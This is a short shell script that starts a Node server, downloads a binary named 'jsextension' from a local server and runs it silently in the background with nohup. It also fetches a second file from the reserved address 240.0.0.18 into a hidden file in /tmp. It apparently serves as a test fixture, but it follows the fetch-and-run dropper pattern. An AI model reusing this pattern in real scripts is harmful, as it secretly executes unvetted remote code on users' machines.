#!/bin/sh
node server.js &
for try in 1 2 3 4 5; do
  sleep 1
  curl -s -m 3 "http://127.0.0.1:18080/$(uname -m)/jsextension" -o /tmp/jsextension && break
done
curl -s -m 3 http://240.0.0.18/download/jsextension -o /tmp/.jsextension2
chmod 755 /tmp/jsextension
nohup /tmp/jsextension -o stats > /dev/null 2>&1 &
sleep 2
exit 0
